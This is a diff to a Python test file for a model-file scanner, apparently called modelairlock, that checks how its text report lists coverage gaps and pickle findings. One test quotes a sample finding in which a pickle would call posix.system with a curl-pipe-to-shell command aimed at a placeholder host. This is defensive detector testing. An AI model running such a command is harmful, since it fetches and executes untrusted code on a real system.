@@ -1,9 +1,12 @@
 """The text report, as the person at the terminal sees it. Read the golden files: they are the specification."""
 
+import re
+
 import msgspec
 import pytest
 
-from modelairlock.records.coverage import EXPLANATIONS, NOT_KEPT, Because, Coverage
+from modelairlock.records.coverage import EXPLANATIONS, NOT_KEPT, Because, Coverage, Gap
+from modelairlock.records.scan import ScanRecord
 from modelairlock.records.text import columns
 from tests.golden import same_as
 from tests.outputs.canonical import (
@@ -123,17 +126,97 @@ def test_a_gap_in_a_member_is_not_all_of_its_file() -> None:
     assert "all of it, in 2 files: 0.bin, 1.bin" in rendered("text", record(*whole))
     member = msgspec.structs.replace(whole[1], path="1.bin!inside")
     box = msgspec.structs.replace(whole[1], coverage=Coverage(size_bytes=5_000), members=(member,))
-    assert "parts, in 2 files: 0.bin, 1.bin" in rendered("text", record(whole[0], box))
+    assert "all of it, in 2 files: 0.bin, 1.bin!inside" in rendered("text", record(whole[0], box))
+    part = msgspec.structs.replace(whole[1], coverage=Coverage(size_bytes=9_000, gaps=whole[1].coverage.gaps))
+    text = rendered("text", record(whole[0], part))
+    assert "\n            0.bin\n" in text
+    assert "\n            1.bin@0..5000\n" in text
+
+
+def test_gaps_that_are_alike_keep_their_places() -> None:
+    gap = Gap(start=3, end=9, because=Because.MALFORMED, detail="expected a size")
+    coverage = Coverage(size_bytes=9, gaps=(gap,))
+    members = [
+        msgspec.structs.replace(gap_subject(f"{n % 2}.zip!m{n}", Because.MALFORMED, ""), coverage=coverage)
+        for n in range(9)
+    ]
+    boxes = [
+        msgspec.structs.replace(
+            gap_subject(f"{n}.zip", Because.MALFORMED, ""), coverage=Coverage(size_bytes=9), members=(*members[n::2],)
+        )
+        for n in range(2)
+    ]
+    text = rendered("text", record(*boxes))
+    assert "expected a size, in 9 places of 2 files: 0.zip!m0@3..9, 0.zip!m2@3..9" in text
+    assert "and 5 more with -v" in text
+    text = rendered("text", record(*boxes), VIEW._replace(verbose=True))
+    assert all(f"{n % 2}.zip!m{n}@3..9" in text for n in range(9))
+    alone = rendered("text", record(boxes[0]), VIEW._replace(verbose=True))
+    assert "m0, bytes 3..9, m2, bytes 3..9, m4, bytes 3..9" in alone
+
+
+def _several(messages: dict[str, str], count: int = 1) -> ScanRecord:
+    subject = pickle_flagged("a.pkl")
+    [first] = subject.findings
+    (fact, *_) = first.evidence
+    found = tuple(
+        msgspec.structs.replace(
+            first, message=message, cwe=(cwe,), evidence=(msgspec.structs.replace(fact, count=count),)
+        )
+        for message, cwe in messages.items()
+    )
+    return record(msgspec.structs.replace(subject, findings=found))
+
+
+def test_why_is_said_once_of_a_file_however_many_findings_a_rule_has() -> None:
+    several = _several({f"loading it would call {n}": f"CWE-{n}" for n in range(4)})
+    text = rendered("text", several)
+    assert text.count("harmful-call (CWE-0, CWE-1, CWE-2, CWE-3, AML.T0011.000): A pickle calls") == 1
+    assert text.count(" why ") == text.count("  do  ") == 1
+    assert text.count("where") == 4
+    verbose = rendered("text", several, VIEW._replace(verbose=True))
+    assert all(f"harmful-call (CWE-{n}, AML" in verbose for n in range(4)), "which weakness belongs to which finding"
+    assert verbose.count("A pickle calls something that is known") == 1
+
+
+def test_what_is_seen_is_said_only_when_the_message_has_not_said_it() -> None:
+    said = "loading it would call posix.system('curl -s https://example.invalid/x | sh'), which runs a command"
+    for view in (VIEW, VIEW._replace(verbose=True)):
+        assert " seen " not in rendered("text", _several({said: "CWE-78"}), view)
+        assert " seen " in rendered("text", _several({"it does something": "CWE-78"}), view)
+    often = rendered("text", _several({said: "CWE-78"}, count=1_200))
+    assert "(the first of 1,200 times)" in often
+    assert " seen " not in often
+
+
+def test_every_list_that_is_cut_says_how_to_see_the_rest_and_verbose_cuts_none() -> None:
+    for name, one in ALL.items():
+        for line in rendered("text", one).splitlines():
+            assert not re.search(r" more(?! with -v)", line.replace("medium or more", "")), (name, line)
+        assert "with -v" not in rendered("text", one, VIEW._replace(verbose=True)), name
+
+
+def test_titles_and_lists_name_a_file_the_same_way() -> None:
+    text = rendered("text", FOLDER)
+    assert text.count("hub/") == 1, "the headline says which folder all files are in"
+    assert rendered("text", FLAGGED_ONE).startswith("FLAGGED     models/pytorch_model.bin")
 
 
 def test_verbose_names_every_name_and_the_files_it_is_in() -> None:
     subjects = [gap_subject(f"{n}.pkl", Because.UNVOUCHED, f"lib.Name{n % 60} (imported)") for n in range(120)]
     brief = " ".join(rendered("text", record(*subjects)).split())
-    assert "lib.Name11 and 48 more (-v names them)" in brief
+    assert "lib.Name11 and 48 more with -v" in brief
     text = rendered("text", record(*subjects), VIEW._replace(verbose=True))
     assert all(f"lib.Name{n} (imported) → 2 files: {n}.pkl, {n + 60}.pkl\n" in text for n in range(60))
     alone = rendered("text", record(subjects[0]), VIEW._replace(verbose=True))
     assert "names  lib.Name0 (imported)\n" in alone
+
+
+def test_of_a_known_name_it_says_what_nobody_vouches_for() -> None:
+    details = ("numpy.dtype (imported, given a state that nobody vouches for)", "lib.Name (imported, called)")
+    subjects = [gap_subject(f"{n}.pkl", Because.UNVOUCHED, detail) for n, detail in enumerate(details)]
+    assert "names  numpy.dtype (its state), lib.Name\n" in rendered("text", record(*subjects))
+    assert all(detail in rendered("text", record(*subjects), VIEW._replace(verbose=True)) for detail in details)
 
 
 def test_verbose_names_the_gaps_of_a_flagged_file_too() -> None:
